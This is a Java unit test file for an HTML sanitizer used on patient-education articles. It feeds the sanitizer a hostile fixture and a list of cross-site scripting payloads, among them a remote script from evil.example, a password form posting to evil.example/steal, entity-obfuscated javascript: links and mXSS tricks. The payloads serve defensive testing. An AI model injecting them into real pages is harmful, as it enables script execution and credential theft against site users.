package org.patientedu.handouts;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ArticleSanitizerTest {

  /** A rendition written by an attacker who could store a Binary. */
  static final String HOSTILE =
      """
      <article lang="en-US">
        <h1>Oxytocin</h1>
        <script>alert('script')</script>
        <SCRIPT SRC=//evil.example/x.js></SCRIPT>
        <iframe src="https://evil.example/frame"></iframe>
        <object data="evil.swf"><embed src="evil.swf"></object>
        <h2 onclick="alert('h2')">Overview</h2>
        <p onmouseover="alert('p')" style="background:url(javascript:alert('css'))">Safe text stays.</p>
        <a href="javascript:alert('link')">bad link</a>
        <a href="JaVaScRiPt&colon;alert('entity')">entity link</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
        <a href="https://www.healthwise.org/" target="_blank" onfocus="alert('a')">good link</a>
        <img src="x" onerror="alert('img')">
        <svg onload="alert('svg')"><circle r="1"/></svg>
        <form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
        <style>body { display: none }</style>
        <meta http-equiv="refresh" content="0;url=https://evil.example/">
        <base href="https://evil.example/">
        <math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
        <ul><li>Item <strong>one</strong></li><li>Item two</li></ul>
        <section class="credits"><h2>Credits</h2><p>Author: Source credits</p></section>
      </article>
      """;

  @Test
  void keepsTheArticleStructure() {
    Document clean = Jsoup.parseBodyFragment(ArticleSanitizer.sanitize(HOSTILE).body());
    assertThat(clean.select("h2").eachText()).containsExactly("Overview");
    assertThat(clean.select("p").eachText()).contains("Safe text stays.");
    assertThat(clean.select("ul > li").eachText()).containsExactly("Item one", "Item two");
    assertThat(clean.select("a[href=https://www.healthwise.org/]").text()).isEqualTo("good link");
  }

  @Test
  void dropsEveryActiveOrForeignElement() {
    Document clean = Jsoup.parseBodyFragment(ArticleSanitizer.sanitize(HOSTILE).body());
    assertThat(
            clean.select(
                "script, iframe, object, embed, img, svg, math, form, input, button, style, meta, base, link"))
        .isEmpty();
  }

  @Test
  void dropsEventHandlersStylesAndDangerousUrls() {
    String html = ArticleSanitizer.sanitize(HOSTILE).body();
    Document clean = Jsoup.parseBodyFragment(html);
    clean
        .getAllElements()
        .forEach(
            element ->
                element
                    .attributes()
                    .forEach(
                        attribute -> {
                          assertThat(attribute.getKey())
                              .doesNotStartWith("on")
                              .isNotEqualTo("style")
                              .isNotEqualTo("target");
                          assertThat(attribute.getValue().toLowerCase())
                              .doesNotContain("javascript")
                              .doesNotStartWith("data:");
                        }));
    assertThat(html.toLowerCase())
        .doesNotContain("javascript:")
        .doesNotContain("onerror")
        .doesNotContain("alert(");
  }

  @Test
  void linksThatSurviveOpenNothingOfOurs() {
    Document clean = Jsoup.parseBodyFragment(ArticleSanitizer.sanitize(HOSTILE).body());
    assertThat(clean.select("a[href]"))
        .extracting(link -> link.attr("href"))
        .containsExactly("https://www.healthwise.org/");
    assertThat(clean.select("a[href]"))
        .allSatisfy(
            link -> assertThat(link.attr("rel")).contains("noopener").contains("noreferrer"));
  }

  @Test
  void leavesOutTheTitleAndTheSourceCreditsThePageRendersItself() {
    Document clean = Jsoup.parseBodyFragment(ArticleSanitizer.sanitize(HOSTILE).body());
    assertThat(clean.select("h1")).isEmpty();
    assertThat(clean.text()).doesNotContain("Oxytocin").doesNotContain("Source credits");
  }

  @Test
  void demotesFurtherTopLevelHeadings() {
    ArticleSanitizer.Article article =
        ArticleSanitizer.sanitize("<h1>Title</h1><p>a</p><h1>Second part</h1><p>b</p>");
    assertThat(article.title()).isEqualTo("Title");
    Document clean = Jsoup.parseBodyFragment(article.body());
    assertThat(clean.select("h1")).isEmpty();
    assertThat(clean.select("h2").eachText()).containsExactly("Second part");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<p>x</p><script>alert(1)</script>",
        "<p><a href=\"javascript:alert(1)\">x</a></p>",
        "<p><a href=\" &#14;  javascript:alert(1)\">x</a></p>",
        "<p><a href=\"java&#x09;script:alert(1)\">x</a></p>",
        "<p onclick=alert(1)>x</p>",
        "<div><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></div>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<p>x<!-- <img src=x onerror=alert(1)> --></p>",
        "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<a href=\"vbscript:msgbox(1)\">x</a>"
      })
  void neutralisesKnownAttacks(String attack) {
    Document clean = Jsoup.parseBodyFragment(ArticleSanitizer.sanitize(attack).body());
    assertThat(clean.select("script, iframe, img, noscript, object, embed")).isEmpty();
    clean
        .getAllElements()
        .forEach(
            element ->
                element
                    .attributes()
                    .forEach(
                        attribute -> {
                          assertThat(attribute.getKey())
                              .doesNotStartWith("on")
                              .isNotEqualTo("background");
                          assertThat(attribute.getValue().toLowerCase()).doesNotContain("script:");
                        }));
    assertThat(clean.body().html()).doesNotContain("<!--");
  }

  @Test
  void anEmptyOrMissingRenditionGivesNothing() {
    assertThat(ArticleSanitizer.sanitize(null).body()).isEmpty();
    assertThat(ArticleSanitizer.sanitize("").body()).isEmpty();
  }
}
